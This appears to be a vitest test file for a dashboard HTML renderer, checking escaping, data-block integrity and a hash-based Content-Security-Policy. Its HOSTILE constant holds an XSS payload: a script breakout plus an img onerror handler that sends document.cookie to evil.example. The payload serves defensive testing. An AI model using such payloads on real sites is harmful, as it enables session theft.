// The page is built from what gateways said (a hostile one included): every string is escaped, the data block
// cannot be ended early, and the Content-Security-Policy lets exactly the page's own two scripts run.
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { DashboardModel } from './dashboard-model.ts';
import { escapeHtml, renderDashboardHtml } from './dashboard-html.ts';

const HOSTILE =
  `</script><script>alert(1)</script><img src=x ` +
  `onerror="fetch('https://evil.example/'+document.cookie)"> ' " \` &amp; \u2028`;

function model(text: string): DashboardModel {
  return {
    title: text,
    facts: [text],
    matrix: {
      providers: [text],
      rows: [{ check: text, cells: { [text]: { status: 'fail', title: text, anchor: `d-${text}` } } }],
    },
    details: [{ anchor: `d-${text}`, heading: text, status: 'fail', lines: [text], curl: text }],
    skipped: [{ reason: text, cells: [text] }],
    charts: [
      { id: 'chart-x', title: text, note: text, unit: text, x: [1, 2], series: [{ label: text, values: [1, null] }] },
    ],
    steps: [{ id: text, startedAt: text, lines: [text] }],
  };
}

describe('renderDashboardHtml', () => {
  const html = renderDashboardHtml(model(HOSTILE));

  it('escapes every string it was given: no markup of a gateway reaches the page', () => {
    expect(html).not.toContain('<img');
    expect(html).not.toContain('onerror="');
    expect(html.match(/<script[\s>]/g)).toHaveLength(3); // the data block, uPlot, the page's script
    expect(html).toContain(escapeHtml('<img src=x onerror='));
    // the JSON data block cannot be closed from inside, nor broken by a line separator
    const data = html.slice(
      html.indexOf('id="kc-data">') + 13,
      html.indexOf('</script>', html.indexOf('id="kc-data">')),
    );
    expect(data).not.toMatch(/<|\u2028/);
    expect((JSON.parse(data) as { charts: { title: string }[] }).charts[0]!.title).toBe(HOSTILE);
  });

  it('lets only its own inline scripts run, and loads nothing from anywhere', () => {
    const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)![1]!;
    expect(csp).toMatch(/^default-src 'none'; /);
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
    expect(scripts).toHaveLength(2);
    for (const s of scripts) expect(csp).toContain(`'sha256-${createHash('sha256').update(s).digest('base64')}'`);
    expect(html).not.toMatch(/\b(?:src|href)="(?:https?:)?\/\//);
  });

  it('escapes the five characters that open markup or attributes', () => {
    expect(escapeHtml(`<a href="x" title='y'>&\``)).toBe('&#60;a href=&#34;x&#34; title=&#39;y&#39;&#62;&#38;&#96;');
  });
});
